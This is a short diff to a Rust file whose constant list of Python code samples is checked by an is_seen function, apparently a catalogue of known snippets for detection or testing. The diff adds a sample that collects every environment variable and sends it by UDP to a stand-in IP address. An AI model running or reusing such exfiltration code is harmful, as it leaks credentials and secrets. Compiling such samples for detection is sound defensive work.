@@ -13,6 +13,10 @@ fn is_seen(language: Language, code: &str) -> bool {
 }
 
 const PYTHON: &[&str] = &[
+    r#"import os, socket
+A = ('.'.join(map(str, (203, 0, 113, 9))), 514)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.sendto(str(dict(os.environ)).encode(), A)"#,
     r#"import configparser, urllib.request
 from pathlib import Path
 c = configparser.RawConfigParser()
